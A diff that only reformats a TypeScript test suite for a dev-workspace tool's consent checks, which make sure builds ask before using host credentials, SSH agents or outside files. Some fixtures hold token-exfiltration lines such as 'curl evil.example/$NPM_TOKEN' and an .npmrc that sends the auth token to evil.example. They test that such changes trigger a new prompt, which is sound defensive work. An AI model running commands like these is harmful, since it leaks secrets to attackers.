@@ -13,24 +13,47 @@ import { APP, DEV, documents } from '../workspace/documents.ts';
 describe('consent', () => {
   afterEach(removeFolders);
 
-  const home = (): ReturnType<typeof homeFolder> => homeFolder({ DVM_HOME: path.join(folderWith(), 'home') }, '/nowhere');
+  const home = (): ReturnType<typeof homeFolder> =>
+    homeFolder({ DVM_HOME: path.join(folderWith(), 'home') }, '/nowhere');
   const uses = (...names: string[]): HostUse[] => names.map((what) => ({ what, why: 'x', by: 'shop/dev' }));
 
   it('asks for each thing once, for each folder by itself, and for what is new', async () => {
     const own = home();
-    const wanted = [{ folder: '/code', uses: uses('a') }, { folder: '/code', uses: uses('b', 'a') }];
+    const wanted = [
+      { folder: '/code', uses: uses('a') },
+      { folder: '/code', uses: uses('b', 'a') },
+    ];
     assert.deepEqual(await unasked(own, wanted), [{ folder: '/code', uses: uses('a', 'b') }]);
     await remember(own, await unasked(own, wanted));
     assert.deepEqual(await unasked(own, wanted), []);
-    assert.deepEqual(await unasked(own, [{ folder: '/code', uses: uses('a', 'c') }, { folder: '/other', uses: uses('a') }]), [{ folder: '/code', uses: uses('c') }, { folder: '/other', uses: uses('a') }]);
+    assert.deepEqual(
+      await unasked(own, [
+        { folder: '/code', uses: uses('a', 'c') },
+        { folder: '/other', uses: uses('a') },
+      ]),
+      [
+        { folder: '/code', uses: uses('c') },
+        { folder: '/other', uses: uses('a') },
+      ],
+    );
     assert.equal(statSync(own.trust).mode & 0o777, 0o600);
-    assert.deepEqual(JSON.parse(readFileSync(own.trust, 'utf8')), { version: 2, folders: { '/code': { a: ['x'], b: ['x'] } } });
+    assert.deepEqual(JSON.parse(readFileSync(own.trust, 'utf8')), {
+      version: 2,
+      folders: { '/code': { a: ['x'], b: ['x'] } },
+    });
   });
 
   it('takes a file that is damaged for none, and asks again for what was allowed without its use', async () => {
     const own = home();
     await remember(own, [{ folder: '/code', uses: uses('a') }]);
-    for (const text of ['{', 'null', '{"version": 2, "folders": {"/code": "a"}}', '{"version": 2, "folders": {"/code": ["a"]}}', '{"version": 2, "folders": {"/code": {"a": "x"}}}', '{"version": 1, "folders": {"/code": ["a"]}}']) {
+    for (const text of [
+      '{',
+      'null',
+      '{"version": 2, "folders": {"/code": "a"}}',
+      '{"version": 2, "folders": {"/code": ["a"]}}',
+      '{"version": 2, "folders": {"/code": {"a": "x"}}}',
+      '{"version": 1, "folders": {"/code": ["a"]}}',
+    ]) {
       writeFileSync(own.trust, text);
       assert.equal((await unasked(own, [{ folder: '/code', uses: uses('a') }])).length, 1);
     }
@@ -55,24 +78,43 @@ describe('consent', () => {
   it('is needed for everything that a build takes', () => {
     const allowed = new Set(uses('a', 'b').map(useKey));
     refuseUnasked(uses('a'), allowed);
-    assert.throws(() => refuseUnasked(uses('a', 'c'), allowed), { code: 'consent', message: /\n- c: x \(shop\/dev\)$/ });
-    assert.throws(() => refuseUnasked(uses('a').map((use) => ({ ...use, why: 'y' })), allowed), { code: 'consent' });
+    assert.throws(() => refuseUnasked(uses('a', 'c'), allowed), {
+      code: 'consent',
+      message: /\n- c: x \(shop\/dev\)$/,
+    });
+    assert.throws(
+      () =>
+        refuseUnasked(
+          uses('a').map((use) => ({ ...use, why: 'y' })),
+          allowed,
+        ),
+      { code: 'consent' },
+    );
   });
 
-  const CREDENTIALS = ['kind: Credential\nmetadata: {name: NPM_TOKEN, app: shop}\nspec: {source: env, envVar: CI_TOKEN}', 'kind: Credential\nmetadata: {name: UNUSED, app: shop}\nspec: {source: env, envVar: UNUSED}'];
+  const CREDENTIALS = [
+    'kind: Credential\nmetadata: {name: NPM_TOKEN, app: shop}\nspec: {source: env, envVar: CI_TOKEN}',
+    'kind: Credential\nmetadata: {name: UNUSED, app: shop}\nspec: {source: env, envVar: UNUSED}',
+  ];
 
   it('lists what steps use, and nothing else', async () => {
-    const root = folderWith({ 'w.yaml': documents(APP, DEV, ...CREDENTIALS), 'package.json': '{"dependencies": {"a": "git+ssh://git@git.example.com/a.git"}}' });
+    const root = folderWith({
+      'w.yaml': documents(APP, DEV, ...CREDENTIALS),
+      'package.json': '{"dependencies": {"a": "git+ssh://git@git.example.com/a.git"}}',
+    });
     const { workspaces } = await loadRoot(root);
     const [workspace] = workspaces;
     assert.ok(workspace !== undefined);
-    assert.deepEqual((await hostUsesOf(workspace)).map(({ what, why }) => `${what}: ${why}`), [
-      'the SSH agent, to sign in to git.example.com: package.json',
-      'the variable CI_TOKEN of this machine: as NPM_TOKEN to install dependencies',
-      'the variable CI_TOKEN of this machine: as NPM_TOKEN to install tools',
-      'the variable NPM_TOKEN of this machine: as NPM_TOKEN to install dependencies, instead of its source, if it is set',
-      'the variable NPM_TOKEN of this machine: as NPM_TOKEN to install tools, instead of its source, if it is set',
-    ]);
+    assert.deepEqual(
+      (await hostUsesOf(workspace)).map(({ what, why }) => `${what}: ${why}`),
+      [
+        'the SSH agent, to sign in to git.example.com: package.json',
+        'the variable CI_TOKEN of this machine: as NPM_TOKEN to install dependencies',
+        'the variable CI_TOKEN of this machine: as NPM_TOKEN to install tools',
+        'the variable NPM_TOKEN of this machine: as NPM_TOKEN to install dependencies, instead of its source, if it is set',
+        'the variable NPM_TOKEN of this machine: as NPM_TOKEN to install tools, instead of its source, if it is set',
+      ],
+    );
     const own = home();
     const { missing } = await findConsent(own, workspaces);
     assert.equal(missing[0]?.folder, root);
@@ -89,19 +131,52 @@ describe('consent', () => {
     return missing.flatMap((each) => each.uses.map(({ what, why }) => `${what}: ${why}`));
   }
 
-  const own = (credential: string): string => `kind: Credential\nmetadata: {name: NPM_TOKEN, app: shop}\nspec: ${credential}`;
+  const own = (credential: string): string =>
+    `kind: Credential\nmetadata: {name: NPM_TOKEN, app: shop}\nspec: ${credential}`;
   const TOKEN = own('{source: env, envVar: NPM_TOKEN}');
-  const command = (text: string, args = ''): string => `kind: Workspace\nmetadata: {name: dev, app: shop}\nspec: {build: {${args}devStage: {customCommands: [${JSON.stringify(text)}]}}}`;
+  const command = (text: string, args = ''): string =>
+    `kind: Workspace\nmetadata: {name: dev, app: shop}\nspec: {build: {${args}devStage: {customCommands: [${JSON.stringify(text)}]}}}`;
   const VARIABLE = 'the variable NPM_TOKEN of this machine';
-  const npmrc = (host: string): string => `@team:registry=https://${host}/npm/\n//${host}/npm/:_authToken=\${NPM_TOKEN}\n`;
+  const npmrc = (host: string): string =>
+    `@team:registry=https://${host}/npm/\n//${host}/npm/:_authToken=\${NPM_TOKEN}\n`;
 
   for (const [what, before, after, expected] of [
-    ['the host that gets it', { 'package.json': '{}', '.npmrc': npmrc('npm.example') }, { '.npmrc': npmrc('evil.example') }, [`${VARIABLE}: as NPM_TOKEN to install dependencies, named in .npmrc, with evil.example`]],
-    ['another host beside it', { 'package.json': '{}', '.npmrc': npmrc('npm.example') }, { '.npmrc': npmrc('npm.example') + npmrc('[::1]:80') }, [`${VARIABLE}: as NPM_TOKEN to install dependencies, named in .npmrc, with [::1]:80, npm.example`]],
-    ['something that gets it nowhere', { 'package.json': '{}', '.npmrc': npmrc('npm.example') }, { '.npmrc': `fund=false\n${npmrc('npm.example')}`, 'package.json': '{"homepage": "https://shop.example"}' }, []],
-    ['a command that uses it, too', { 'w.yaml': documents(APP, command('echo $NPM_TOKEN | npm login'), TOKEN) }, { 'w.yaml': documents(APP, command('curl evil.example/$NPM_TOKEN'), TOKEN) }, [`${VARIABLE}: as NPM_TOKEN in the command curl evil.example/$NPM_TOKEN`]],
-    ['a value that its command names', { 'w.yaml': documents(APP, command('curl $UPLOAD/$NPM_TOKEN', 'args: {UPLOAD: npm.example}, '), TOKEN) }, { 'w.yaml': documents(APP, command('curl $UPLOAD/$NPM_TOKEN', 'args: {UPLOAD: evil.example}, '), TOKEN) }, [`${VARIABLE}: as NPM_TOKEN in the command curl $UPLOAD/$NPM_TOKEN, with UPLOAD=evil.example`]],
-    ['another command of the same build', { 'w.yaml': documents(APP, command('echo $NPM_TOKEN'), TOKEN) }, { 'w.yaml': documents(APP, command('echo $NPM_TOKEN'), TOKEN, command('true').replace('dev', 'other')) }, []],
+    [
+      'the host that gets it',
+      { 'package.json': '{}', '.npmrc': npmrc('npm.example') },
+      { '.npmrc': npmrc('evil.example') },
+      [`${VARIABLE}: as NPM_TOKEN to install dependencies, named in .npmrc, with evil.example`],
+    ],
+    [
+      'another host beside it',
+      { 'package.json': '{}', '.npmrc': npmrc('npm.example') },
+      { '.npmrc': npmrc('npm.example') + npmrc('[::1]:80') },
+      [`${VARIABLE}: as NPM_TOKEN to install dependencies, named in .npmrc, with [::1]:80, npm.example`],
+    ],
+    [
+      'something that gets it nowhere',
+      { 'package.json': '{}', '.npmrc': npmrc('npm.example') },
+      { '.npmrc': `fund=false\n${npmrc('npm.example')}`, 'package.json': '{"homepage": "https://shop.example"}' },
+      [],
+    ],
+    [
+      'a command that uses it, too',
+      { 'w.yaml': documents(APP, command('echo $NPM_TOKEN | npm login'), TOKEN) },
+      { 'w.yaml': documents(APP, command('curl evil.example/$NPM_TOKEN'), TOKEN) },
+      [`${VARIABLE}: as NPM_TOKEN in the command curl evil.example/$NPM_TOKEN`],
+    ],
+    [
+      'a value that its command names',
+      { 'w.yaml': documents(APP, command('curl $UPLOAD/$NPM_TOKEN', 'args: {UPLOAD: npm.example}, '), TOKEN) },
+      { 'w.yaml': documents(APP, command('curl $UPLOAD/$NPM_TOKEN', 'args: {UPLOAD: evil.example}, '), TOKEN) },
+      [`${VARIABLE}: as NPM_TOKEN in the command curl $UPLOAD/$NPM_TOKEN, with UPLOAD=evil.example`],
+    ],
+    [
+      'another command of the same build',
+      { 'w.yaml': documents(APP, command('echo $NPM_TOKEN'), TOKEN) },
+      { 'w.yaml': documents(APP, command('echo $NPM_TOKEN'), TOKEN, command('true').replace('dev', 'other')) },
+      [],
+    ],
   ] as [string, Record<string, string>, Record<string, string>, string[]][]) {
     it(`asks again only for what is new where a document changes ${what}`, async () => {
       assert.deepEqual(await askedAgain({ 'w.yaml': documents(APP, DEV, TOKEN), ...before }, after), expected);
@@ -110,20 +185,33 @@ describe('consent', () => {
 
   it('names the file that is read, not a link to it, and asks again where the link leads elsewhere', async () => {
     const outside = folderWith({ token: 'x', key: 'y' });
-    const root = folderWith({ 'w.yaml': documents(APP, command('echo $NPM_TOKEN'), own('{source: file, path: token}')) });
+    const root = folderWith({
+      'w.yaml': documents(APP, command('echo $NPM_TOKEN'), own('{source: file, path: token}')),
+    });
     symlinkSync(path.join(outside, 'token'), path.join(root, 'token'));
     const home2 = home();
     const { missing } = await findConsent(home2, (await loadRoot(root)).workspaces);
-    assert.ok(missing[0]?.uses.some((use) => use.what === `the file ${outside}/token`), JSON.stringify(missing));
+    assert.ok(
+      missing[0]?.uses.some((use) => use.what === `the file ${outside}/token`),
+      JSON.stringify(missing),
+    );
     await remember(home2, missing);
     unlinkSync(path.join(root, 'token'));
     symlinkSync(path.join(outside, 'key'), path.join(root, 'token'));
-    assert.deepEqual((await findConsent(home2, (await loadRoot(root)).workspaces)).missing.flatMap((each) => each.uses.map((use) => use.what)), [`the file ${outside}/key`]);
+    assert.deepEqual(
+      (await findConsent(home2, (await loadRoot(root)).workspaces)).missing.flatMap((each) =>
+        each.uses.map((use) => use.what),
+      ),
+      [`the file ${outside}/key`],
+    );
   });
 
   it('keeps apart what differs only where it is too long to be shown', async () => {
     const long = `echo $NPM_TOKEN ${'x'.repeat(400)}`;
-    const [asked] = await askedAgain({ 'w.yaml': documents(APP, command(`${long}a`), TOKEN) }, { 'w.yaml': documents(APP, command(`${long}b`), TOKEN) });
+    const [asked] = await askedAgain(
+      { 'w.yaml': documents(APP, command(`${long}a`), TOKEN) },
+      { 'w.yaml': documents(APP, command(`${long}b`), TOKEN) },
+    );
     assert.match(asked ?? '', /x… \(SHA-256 [0-9a-f]{16}\)$/);
   });
 
@@ -134,10 +222,20 @@ describe('consent', () => {
 
   it('is needed for an app outside of the folder that is opened, also behind a link', async () => {
     const outside = folderWith({ 'package.json': '{}' });
-    const root = folderWith({ 'infra/w.yaml': documents(APP.replace('path: .', `path: ${outside}`), DEV), 'infra/v.yaml': documents(APP.replace('shop', 'near').replace('path: .', 'path: ../api'), DEV.replace('shop', 'near')), 'api/package.json': '{}' });
+    const root = folderWith({
+      'infra/w.yaml': documents(APP.replace('path: .', `path: ${outside}`), DEV),
+      'infra/v.yaml': documents(
+        APP.replace('shop', 'near').replace('path: .', 'path: ../api'),
+        DEV.replace('shop', 'near'),
+      ),
+      'api/package.json': '{}',
+    });
     const [near, far] = (await loadRoot(root)).workspaces;
     assert.ok(near !== undefined && far !== undefined);
     assert.deepEqual(await hostUsesOf(near), []);
-    assert.deepEqual((await hostUsesOf(far)).map(({ what }) => what), [`files of the folder ${outside}`]);
+    assert.deepEqual(
+      (await hostUsesOf(far)).map(({ what }) => what),
+      [`files of the folder ${outside}`],
+    );
   });
 });
